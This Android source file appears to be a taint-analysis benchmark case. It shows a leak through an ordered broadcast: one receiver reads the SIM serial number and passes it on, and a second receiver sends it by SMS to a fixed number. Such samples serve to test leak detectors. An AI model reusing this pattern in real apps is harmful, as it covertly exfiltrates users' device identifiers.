// about       The first receiver of an ordered broadcast sets the data that the second one sends.
// leak        DEV_ICCID sms
// element     <receiver android:name="cn.example.flow.MainActivity$First" android:exported="false"><intent-filter android:priority="10"><action android:name="cn.example.flow.STEP"/></intent-filter></receiver>
// element     <receiver android:name="cn.example.flow.MainActivity$Second" android:exported="false"><intent-filter android:priority="1"><action android:name="cn.example.flow.STEP"/></intent-filter></receiver>
package cn.example.flow;

import android.app.Activity;
import android.content.BroadcastReceiver;
import android.content.Context;
import android.content.Intent;
import android.telephony.SmsManager;
import android.telephony.TelephonyManager;

public class MainActivity extends Activity {
  @Override
  protected void onResume() {
    super.onResume();
    Intent intent = new Intent("cn.example.flow.STEP").setPackage(getPackageName());
    sendOrderedBroadcast(intent, null);
  }

  public static class First extends BroadcastReceiver {
    @Override
    public void onReceive(Context context, Intent intent) {
      TelephonyManager phone =
          (TelephonyManager) context.getSystemService(Context.TELEPHONY_SERVICE);
      setResultData(phone.getSimSerialNumber());
      // The other receiver has a lower priority.
      setResultCode(2);
    }
  }

  public static class Second extends BroadcastReceiver {
    @Override
    public void onReceive(Context context, Intent intent) {
      String text = getResultData();
      SmsManager.getDefault().sendTextMessage("5550100", null, text, null, null);
    }
  }
}
